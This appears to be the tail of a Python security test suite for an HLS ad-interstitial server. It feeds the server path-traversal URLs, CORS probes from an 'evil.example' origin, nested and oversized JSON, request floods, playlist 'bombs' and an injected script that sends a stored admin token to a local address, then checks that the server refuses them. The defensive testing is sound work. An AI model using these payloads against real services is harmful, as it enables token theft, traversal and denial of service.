    # Issue 36, items 1 and 3: /console serves only its own files, each under its content policy; the
    # admin routes the console reads and /admin/v1/openapi.json need the token and send no CORS fields;
    # GET /admin/v1/served refuses what it cannot take with 400, at once.
    print("20. the operations console's files and the admin routes it reads", flush=True)
    port = free_port()
    server = Server(hlsi, base_config(port, os.path.join(workdir, "console.sqlite")), workdir, "console")
    try:
        base = server.base
        status, headers, body = request(base, "GET", "/console")
        policy = headers.get("Content-Security-Policy", "")
        check(status == 200 and b"/console/console.mjs" in body, f"the console is served (got {status})")
        check(policy.startswith("default-src 'self';") and "frame-ancestors 'none'" in policy,
              f"under its content policy: {policy!r}")
        for path in ("/console/..%2F..%2FPackage.swift", "/console/%2e%2e%2fpage%2fpage.mjs", "/console/.x.mjs",
                     "/console/index.html%00.css", "/console/openapi.json", "/console/../page/page.mjs",
                     "/console/" + "a" * 4000 + ".mjs", "/console/console.mjs%2f..%2fx.css"):
            status, headers, body = request(base, "GET", path)
            check(status in (400, 404) and b"<html" not in body,
                  f"{path[:60]} is not served ({status})")
        status, headers, _ = request(base, "GET", "/console/console.mjs")
        check(status == 200 and "Content-Security-Policy" in headers and headers.get("X-Content-Type-Options")
              == "nosniff", f"a console file carries the policy and nosniff ({status})")
        for path in ("/admin/v1/openapi.json", "/admin/v1/targets", "/admin/v1/served"):
            for auth in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {TOKEN}"}):
                status, headers, _ = request(base, "GET", path, headers=dict(auth, Origin="http://evil.example"))
                check(status == 401 and "Access-Control-Allow-Origin" not in headers,
                      f"{path} with {auth or 'no token'} is refused without CORS ({status})")
        status, headers, body = admin(base, "GET", "/openapi.json")
        check(status == 200 and json.loads(body).get("openapi") == "3.1.0"
              and "Access-Control-Allow-Origin" not in headers, f"with the token: the description ({status})")
        for query in ("limit=0", "limit=-1", "limit=99999999999999999999999", "limit=1e3", "target=..%2F..%2Fx",
                      "target=vod%2F" + "a" * 3000, "target=live%2Fnothing"):
            started = time.time()
            status, _, body = admin(base, "GET", "/served?" + query)
            check(status in (400, 404) and b'"code"' in body and time.time() - started < 5,
                  f"served?{query[:40]} is refused at once ({status})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
class ScheduleUpstream(http.server.ThreadingHTTPServer):
    """An upstream whose media playlists name hostile Date Range Schedule documents."""
    daemon_threads = True
    DOCUMENTS = {
        "big": b'{"DATERANGES":[' + b",".join(
            b'{"ID":"e%d","CLASS":"x","X-SCHEDULE-OFFSET":1,"X-PAD":"%s"}' % (i, b"a" * 1000) for i in range(2100)) + b"]}",
        "deep": b'{"DATERANGES":[' + b"[" * 5000 + b"]" * 5000 + b"]}",
        "many": b'{"DATERANGES":[' + b",".join(
            b'{"ID":"e%d","CLASS":"x","X-SCHEDULE-OFFSET":1}' % i for i in range(5000)) + b"]}",
        "junk": b"\x00\xff{not json",
    }

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            name, _, file = self.path.strip("/").partition("/")
            if name in ScheduleUpstream.DOCUMENTS and file.startswith("main.m3u8"):
                text = ("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n#EXT-X-PLAYLIST-TYPE:VOD\n"
                        "#EXT-X-PROGRAM-DATE-TIME:2026-03-01T10:00:00.000Z\n"
                        '#EXT-X-DATERANGE:ID="s",CLASS="com.apple.hls.daterange-schedule",'
                        'START-DATE="2026-03-01T10:00:00.000Z",X-URI="doc.json"\n')
                text += "".join(f"#EXTINF:4.0,\nseg{i}.ts\n" for i in range(10)) + "#EXT-X-ENDLIST\n"
                body, kind = text.encode(), "application/vnd.apple.mpegurl"
            elif name in ScheduleUpstream.DOCUMENTS and file == "doc.json":
                body, kind = ScheduleUpstream.DOCUMENTS[name], "application/json"
            else:
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)


def schedule_attacks(hlsi, workdir):
    # Issue 35, item 4: the schedule route stores and plans nothing for a made-up ID, and hostile
    # upstream schedule documents add nothing (profile R27) at a bounded cost.
    print("21. Date Range Schedules: made-up IDs, hostile upstream documents", flush=True)
    upstream = ScheduleUpstream(("127.0.0.1", 0), ScheduleUpstream.Handler)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{upstream.server_address[1]}"
    port = free_port()
    config = base_config(port, os.path.join(workdir, "schedules.sqlite"), LIMITS)
    config["vod"][0]["interstitials"] = "schedule"
    config["allowedOrigins"] = [origin]
    config["vod"] += [{"id": name, "upstream": f"{origin}/{name}/main.m3u8", "flattenSchedules": True}
                      for name in ScheduleUpstream.DOCUMENTS]
    server = Server(hlsi, config, workdir, "schedules")
    try:
        status, _, _ = admin(server.base, "POST", "/breaks", {"id": "mid", "target": "vod/demo", "at": 12, "duration": 6})
        check(status == 201, f"a VOD break is added (got {status})")
        status, _, body = request(server.base, "GET", "/demo/vod/video/main.m3u8")
        check(status == 200 and b"com.apple.hls.daterange-schedule" in body,
              f"the VOD's playlist names its schedule (got {status})")
        uri = next((line.split('X-URI="')[1].split('"')[0] for line in body.decode().splitlines()
                    if "daterange-schedule" in line), "")
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        statuses = {}
        for index in range(2000):
            connection.request("GET", f"/demo/vod/schedule.json?id=hlsi-schedule-{index:016x}")
            response = connection.getresponse()
            response.read()
            statuses[response.status] = statuses.get(response.status, 0) + 1
        connection.close()
        check(statuses == {404: 2000}, f"2000 made-up schedule IDs get 404 (got {statuses})")
        for bad in ("x" * 100, "hlsi-schedule-..%2f..", "../asset-list"):
            status, _, _ = request(server.base, "GET", f"/demo/vod/schedule.json?id={bad}")
            check(status == 400, f"a malformed schedule ID gets 400 (got {status})")
        status, headers, document = request(server.base, "GET", uri)
        check(status == 200 and b'"ID":"mid"' in document and headers.get("Cache-Control") == "public, max-age=86400",
              f"the real document is still served (got {status} {document[:100]!r})")
        for name in ScheduleUpstream.DOCUMENTS:
            status, _, body = request(server.base, "GET", f"/vod/{name}/main.m3u8")
            check(status == 200 and b"EXT-X-DATERANGE" not in body,
                  f"an upstream schedule that is {name} adds nothing; the playlist is served (got {status})")
        failed = metric(server.base, 'hlsi_schedule_loads_total{result="failed"}')
        check(failed is not None and float(failed) == len(ScheduleUpstream.DOCUMENTS),
              f"each failed document is counted (got {failed})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        upstream.shutdown()


class IsolationUpstream(http.server.ThreadingHTTPServer):
    """Issue 42's hostile upstream: a playlist that stalls, pages and scripts under the entry's
    directory, a segment labelled as HTML, and playlists whose schedules would flatten into
    120,000 date ranges."""

    daemon_threads = True
    MEDIA = ("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n#EXT-X-PLAYLIST-TYPE:VOD\n"
             + "".join(f"#EXTINF:4.0,\nseg{i}.m4s\n" for i in range(5)) + "#EXT-X-ENDLIST\n").encode()
    PAGE = b"<script>fetch('http://127.0.0.1:9/?t='+sessionStorage.getItem('hlsi-admin-token'))</script>"
    # 1,000 entries: within the document limit, 120,000 in all once named by 120 tags.
    @staticmethod
    def document(prefix):
        return (b'{"DATERANGES":[' + b",".join(
            b'{"ID":"%s%d","CLASS":"com.apple.hls.interstitial","X-SCHEDULE-OFFSET":%d,"DURATION":1,'
            b'"X-ASSET-URI":"https://ads.example/a.m3u8","X-PAD":"%s"}' % (prefix, i, i % 20, b"a" * 600)
            for i in range(1000)) + b"]}")

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.lock = threading.Lock()
        self.seen = []

    @staticmethod
    def bomb(tags, distinct):
        text = ("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n#EXT-X-PLAYLIST-TYPE:VOD\n"
                "#EXT-X-PROGRAM-DATE-TIME:2026-03-01T10:00:00.000Z\n")
        for index in range(tags):
            uri = f"doc{index}.json" if distinct else "doc.json"
            text += (f'#EXT-X-DATERANGE:ID="s{index}",CLASS="com.apple.hls.daterange-schedule",'
                     f'START-DATE="2026-03-01T10:00:00.000Z",X-URI="{uri}"\n')
        return (text + "".join(f"#EXTINF:4.0,\nseg{i}.m4s\n" for i in range(5)) + "#EXT-X-ENDLIST\n").encode()

    class Handler(QuietHandler):
        def do_GET(self):
            with self.server.lock:
                self.server.seen.append(self.path)
            path = self.path.split("?")[0]
            if path == "/q/stall.m3u8":
                self.send_response(200)
                self.send_header("Content-Type", "application/vnd.apple.mpegurl")
                self.send_header("Content-Length", "100000")
                self.end_headers()
                self.wfile.write(b"#EXTM3U\n")
                self.wfile.flush()
                time.sleep(4)
            elif path == "/q/main.m3u8":
                self.answer(IsolationUpstream.MEDIA, "application/vnd.apple.mpegurl")
            elif path in ("/q/evil.html", "/q/evil.svg", "/q/evil.js"):
                self.answer(IsolationUpstream.PAGE, "text/html")
            elif path == "/q/seg0.m4s":
                self.answer(IsolationUpstream.PAGE, "text/html")
            elif path == "/bomb/main.m3u8":
                self.answer(IsolationUpstream.bomb(120, False), "application/vnd.apple.mpegurl")
            elif path == "/wide/main.m3u8":
                self.answer(IsolationUpstream.bomb(16, True), "application/vnd.apple.mpegurl")
            elif path.endswith(".json"):
                # Each document its own IDs: 16 of them are 16,000 date ranges.
                name = path.rsplit("/", 1)[-1].removesuffix(".json")
                self.answer(IsolationUpstream.document(name.encode() + b"-"), "application/json")
            else:
                self.answer(b"no", "text/plain", 404)


def rss_mib(pid):
    """The resident set of a process, in MiB (Linux), or None."""
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None
    return None


def isolation_attacks(hlsi, workdir):
    # Issue 42, items 5-7: random queries took all 32 upstream slots (503 upstream-busy for real
    # viewers); an upstream's .html ran on the console's origin and sent the admin token away;
    # 120 schedule tags made a 1 KB playlist 104 MB (8.6 s, 715 MB RSS per render).
    print("22. upstream isolation: random queries, upstream pages, schedule bombs", flush=True)
    upstream = IsolationUpstream(("127.0.0.1", 0), IsolationUpstream.Handler)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{upstream.server_address[1]}"
    port = free_port()
    limits = dict(LIMITS, upstreamConcurrency=8, upstreamTimeout=3)
    config = base_config(port, os.path.join(workdir, "isolation.sqlite"), limits)
    config["allowedOrigins"] = [origin]
    config["vod"] += [{"id": "q", "upstream": f"{origin}/q/main.m3u8"},
                      {"id": "bomb", "upstream": f"{origin}/bomb/main.m3u8", "flattenSchedules": True},
                      {"id": "wide", "upstream": f"{origin}/wide/main.m3u8", "flattenSchedules": True}]
    server = Server(hlsi, config, workdir, "isolation")
    try:
        # Item 5: 64 connections with ?r=<random> on a stalling playlist, while a viewer plays.
        flood = [threading.Thread(target=request, args=(server.base, "GET", f"/vod/q/stall.m3u8?r={os.urandom(8).hex()}"),
                                  kwargs={"timeout": 15}, daemon=True) for _ in range(64)]
        for thread in flood:
            thread.start()
        time.sleep(0.5)  # lets the flood arrive; the checks below do not depend on it
        statuses = [request(server.base, "GET", "/vod/q/main.m3u8?r=viewer")[0] for _ in range(5)]
        check(statuses == [200] * 5, f"a viewer is served during a random-query flood (got {statuses})")
        for thread in flood:
            thread.join(20)
        with upstream.lock:
            stalls = [path for path in upstream.seen if path.startswith("/q/stall.m3u8")]
        check(all(path == "/q/stall.m3u8" for path in stalls) and 1 <= len(stalls) <= 4,
              f"the flood's queries are not forwarded and share fetches (upstream saw {len(stalls)}: {stalls[:3]})")
        # Item 6: nothing the upstream serves runs as a page of the server's origin.
        for name in ("evil.html", "evil.svg", "evil.js"):
            status, headers, body = request(server.base, "GET", f"/vod/q/{name}")
            check(status == 404 and b"<script>" not in body, f"an upstream {name} is not proxied (got {status})")
        status, headers, body = request(server.base, "GET", "/vod/q/seg0.m4s")
        check(status == 200 and headers.get("Content-Type") == "video/iso.segment"
              and headers.get("X-Content-Type-Options") == "nosniff"
              and headers.get("Content-Security-Policy") == "sandbox",
              f"a proxied segment has the server's type, nosniff and a sandbox (got {status} {headers})")
        # Item 7: 120 schedule tags, and 16 tags of 1,000 entries each, are refused with 502.
        def documents_fetched():
            with upstream.lock:
                return len([path for path in upstream.seen if path.endswith(".json")])
        rss_before = rss_mib(server.process.pid)
        for name, most in (("bomb", 0), ("wide", 3 * 16)):
            before = documents_fetched()
            started = time.time()
            results = []
            renders = [threading.Thread(target=lambda: results.append(
                request(server.base, "GET", f"/vod/{name}/main.m3u8", timeout=60)), daemon=True) for _ in range(3)]
            for thread in renders:
                thread.start()
            for thread in renders:
                thread.join(60)
            statuses = sorted(result[0] for result in results)
            sizes = max((len(result[2]) for result in results), default=0)
            check(statuses == [502] * 3 and sizes < 4096,
                  f"three concurrent renders of {name} get 502 at once (got {statuses}, {sizes} bytes, "
                  f"{time.time() - started:.1f} s)")
            documents = documents_fetched() - before
            check(documents <= most, f"{name}: at most 16 schedule documents per render are fetched (got {documents})")
        rss_after = rss_mib(server.process.pid)
        if rss_before is not None and rss_after is not None:
            check(rss_after - rss_before < 300,
                  f"the renders do not grow the server by hundreds of MB (RSS {rss_before:.0f} -> {rss_after:.0f} MiB)")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        upstream.shutdown()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--hlsi", required=True)
    args = parser.parse_args()
    workdir = tempfile.mkdtemp(prefix="hlsi-attacks-")
    try:
        attacks(os.path.abspath(args.hlsi), workdir)
        guard_attacks(os.path.abspath(args.hlsi), workdir)
        wave3_attacks(os.path.abspath(args.hlsi), workdir)
        beacon_attacks(os.path.abspath(args.hlsi), workdir)
        conditioning_attacks(os.path.abspath(args.hlsi), workdir)
        ad_server_attacks(os.path.abspath(args.hlsi), workdir)
        vast_attribute_flood(os.path.abspath(args.hlsi), workdir)
        herd_attacks(os.path.abspath(args.hlsi), workdir)
        session_flood(os.path.abspath(args.hlsi), workdir)
        far_break_flood(os.path.abspath(args.hlsi), workdir)
        session_burst(os.path.abspath(args.hlsi), workdir)
        large_user_agents(os.path.abspath(args.hlsi), workdir)
        shared_tag_device(os.path.abspath(args.hlsi), workdir)
        console_attacks(os.path.abspath(args.hlsi), workdir)
        upstream_attacks(os.path.abspath(args.hlsi), workdir)
        schedule_attacks(os.path.abspath(args.hlsi), workdir)
        isolation_attacks(os.path.abspath(args.hlsi), workdir)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    print(f"attacks: {len(failures)} failed", flush=True)
    if failures:
        for failure in failures:
            print("  - " + failure)
        sys.exit(1)


if __name__ == "__main__":
    main()
